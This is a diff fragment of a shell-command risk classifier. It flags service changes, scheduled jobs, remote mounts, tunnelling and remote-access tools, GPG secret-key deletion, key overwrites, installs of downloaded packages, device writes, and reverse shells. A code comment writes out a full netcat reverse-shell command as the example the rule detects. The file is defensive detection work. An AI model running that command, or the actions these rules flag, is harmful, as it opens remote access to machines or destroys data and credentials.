+    }
+    case "service":
+    case "rc-service":
+    case "invoke-rc.d": {
+      const [unit = "", verb = ""] = words;
+      if (/^(?:restart|reload|force-reload|try-restart|condrestart|zap)$/.test(verb) && SYSTEM_UNIT.test(unit)) add(ctx, "service_change");
+      return;
+    }
+    case "rcctl":
+      if (/^(?:stop|disable)$/.test(words[0] ?? "")) return add(ctx, "stop_service");
+      if (/^(?:restart|reload|enable|set|order)$/.test(words[0] ?? "")) return add(ctx, "service_change");
+      return;
+    case "loginctl":
+      if (/^(?:terminate-user|terminate-session|terminate-seat|kill-user|kill-session|lock-sessions|enable-linger|disable-linger|attach|flush-devices)$/.test(words[0] ?? "")) add(ctx, "service_change");
+      return;
+    case "sv":
+    case "s6-rc":
+    case "supervisorctl":
+      return;
+    // Scheduling a command for later is itself a change of the machine's state.
+    case "at":
+    case "batch":
+      if (hasFlag(args, "lcqrdV") && !hasFlag(args, "f")) return;
+      if (name === "at" && !args.length) return;
+      return add(ctx, "schedule_job");
+    case "systemd-run":
+      if (args.some((a) => /^--on-(?:calendar|active|boot|startup|unit-active|unit-inactive|clock-change|timezone-change)\b|^--timer-property\b/.test(a.text))) add(ctx, "schedule_job");
+      return;
+    // Mounts of remote or FUSE file systems.
+    case "sshfs":
+    case "s3fs":
+    case "goofys":
+    case "gcsfuse":
+    case "blobfuse":
+    case "blobfuse2":
+    case "mount.cifs":
+    case "mount.nfs":
+    case "mount.nfs4":
+    case "davfs2":
+    case "encfs":
+    case "gocryptfs":
+      if (!has("-h", "--help", "-V", "--version") && operands(args, "op", ["-o"]).length >= 1) add(ctx, "mount_change");
+      return;
+    case "rclone":
+      if (words[0] === "mount" || words[0] === "nfsmount") add(ctx, "mount_change");
+      return;
+    // Remote access: tunnels that expose this machine to the network, shared terminals.
+    case "ngrok":
+      if (/^(?:tcp|http|tls|start|tunnel)$/.test(words[0] ?? "")) add(ctx, "remote_access");
+      return;
+    case "cloudflared":
+      if ((words.includes("tunnel") && !words.some((w) => /^(?:list|info|login|token|version|help|cleanup|delete)$/.test(w))) || (words[0] === "access" && /^(?:tcp|ssh|rdp|smb)$/.test(words[1] ?? ""))) add(ctx, "remote_access");
+      return;
+    case "chisel":
+      if ((words[0] === "client" && words.some((w) => /^R:/i.test(w))) || (words[0] === "server" && has("--reverse"))) add(ctx, "remote_access");
+      return;
+    case "tmate":
+    case "upterm":
+    case "sshx":
+    case "teleconsole":
+      if (!has("-h", "--help", "-V", "--version") && !(name === "tmate" && words.some((w) => /^(?:ls|list-sessions|kill-server|kill-session)$/.test(w)))) add(ctx, "remote_access");
+      return;
+    case "frpc":
+    case "frps":
+    case "inlets":
+    case "inlets-pro":
+    case "pagekite":
+    case "pagekite.py":
+    case "localtunnel":
+    case "lt":
+    case "zrok":
+    case "tailscale":
+    case "bore":
+      if (has("-h", "--help", "-v", "--version")) return;
+      if (name === "bore" && words[0] !== "local") return;
+      if (name === "zrok" && words[0] !== "share") return;
+      if (name === "tailscale" && !(words[0] === "funnel" || words[0] === "serve" || (words[0] === "up" && has("--ssh")))) return;
+      if (name === "lt" && !has("--port", "-p")) return;
+      add(ctx, "remote_access");
+      return;
+    // Credentials destroyed: secret keys deleted from the keyring.
+    case "gpg":
+    case "gpg2":
+      if (has("--delete-secret-keys", "--delete-secret-and-public-keys", "--delete-keys", "--delete-key", "--delete-secret-key")) {
+        const home = texts.findIndex((t) => t === "--homedir");
+        const dir = home >= 0 ? texts[home + 1] : texts.find((t) => t.startsWith("--homedir="))?.slice(10);
+        if (dir === undefined || !isInsideLike(whereIn(ctx, dir))) add(ctx, "credential_write");
+      }
+      return;
+    // ssh-keygen generating a key writes the -f file (and FILE.pub): over a key in ~/.ssh, the key is lost.
+    case "ssh-keygen": {
+      if (hasFlag(args.filter((a) => a.text !== "-f"), "lyBFHLQDeikRrAYs")) return;
+      const f = texts.findIndex((t) => t === "-f");
+      const file = f >= 0 ? texts[f + 1] : texts.find((t) => /^-f./.test(t))?.slice(2);
+      if (file) {
+        judgeOverwrite(ctx, file);
+        judgeOverwrite(ctx, `${file}.pub`);
+      }
+      return;
+    }
+    // Installing a package file this command line downloaded runs its maintainer scripts as root.
+    case "dpkg":
+    case "rpm":
+    case "apt":
+    case "apt-get":
+    case "dnf":
+    case "yum":
+    case "zypper":
+    case "pacman":
+    case "installer":
+    case "gdebi":
+      if (args.some((a) => !a.text.startsWith("-") && isFetched(ctx, a.text))) add(ctx, "remote_code_exec");
+      return;
+    // Writing images onto devices, erasing flash.
+    case "bmaptool": {
+      if (words[0] !== "copy") return;
+      const ops = operands(args.slice(1), "", ["--bmap", "--gpg-key"]);
+      const dest = ops[ops.length - 1];
+      if (dest) judgeOverwrite(ctx, dest.text);
+      return;
+    }
+    case "flash_erase":
+    case "flash_eraseall":
+    case "flash_unlock":
+    case "flash_lock":
+    case "flashcp":
+    case "nandwrite":
+    case "ubiformat":
+    case "ubidetach":
+    case "mtd_debug":
+    case "etcher":
+    case "balena-etcher":
+    case "rpi-imager":
+    case "dcfldd":
+    case "dc3dd":
+    case "ddrescue":
+    case "bbcp":
+      if (name === "mtd_debug" && !/^(?:write|erase)$/.test(words[0] ?? "")) return;
+      for (const o of operands(args)) {
+        const t = o.text.replace(/^(?:of|hof|vf)=/, "");
+        if (whereIn(ctx, t) === "device") return add(ctx, /erase|ubiformat|flash_unlock|flash_lock/.test(name) ? "erase_device" : "disk_write");
+      }
+      if ((name === "dcfldd" || name === "dc3dd") && args.some((a) => /^(?:of|hof)=\/dev\/(?!null|zero|stdout|stderr)/.test(a.text))) add(ctx, "disk_write");
+      return;
+  }
+  // A shell whose output goes to a network connection (`sh -i < /tmp/f 2>&1 | nc host 4242 > /tmp/f`): a reverse shell.
+  if (/^(?:nc|ncat|netcat|socat|telnet|openssl|cryptcat|pwncat|pwncat-cs)$/.test(name) && ctx.producer && SHELLS.has(ctx.producer.name) && !ctx.producer.args.some((a) => /^-[A-Za-z]*c/.test(a.text) || !a.text.startsWith("-"))) add(ctx, "remote_access");
 }
